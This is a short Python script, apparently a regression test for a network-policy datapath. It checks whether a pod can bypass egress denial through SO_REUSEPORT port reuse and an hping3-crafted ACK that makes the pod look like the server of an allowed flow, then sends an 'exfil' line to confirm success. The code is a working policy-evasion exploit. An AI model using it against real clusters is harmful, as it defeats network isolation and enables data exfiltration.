"""A pod's attempt to open a connection policy denies by posing as a server
(the review of the mid-stream path found it worked): it listens on port P
with SO_REUSEPORT, connects out from the same port P (policy drops the SYN,
the socket waits in SYN_SENT), then sends one crafted ACK from P so that the
datapath might take the pod for the server of an allowed peer -> pod:P flow.

  reuseport_attack.py LOCAL_ADDR TARGET_ADDR TARGET_PORT P

Exits 0 if the connection was made and echoed (the attack worked), 1 if not.
"""
import os
import select
import socket
import subprocess
import sys
import time

local, target, target_port, port = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
listener = socket.socket(socket.AF_INET)
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
listener.bind((local, port))
listener.listen()
conn = socket.socket(socket.AF_INET)
conn.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
conn.bind((local, port))
conn.setblocking(False)
conn.connect_ex((target, target_port))
time.sleep(0.3)
subprocess.run(["hping3", "-q", "-A", "-s", str(port), "-k", "-p", str(target_port), "-c", "1",
                target], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
_, writable, _ = select.select([], [conn], [], 4)
err = conn.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
if not writable or err:
    print("connect failed:", os.strerror(err) if err else "timeout")
    sys.exit(1)
conn.setblocking(True)
conn.settimeout(3)
conn.sendall(b"exfil\n")
print("connected, echo:", conn.recv(100))
sys.exit(0)
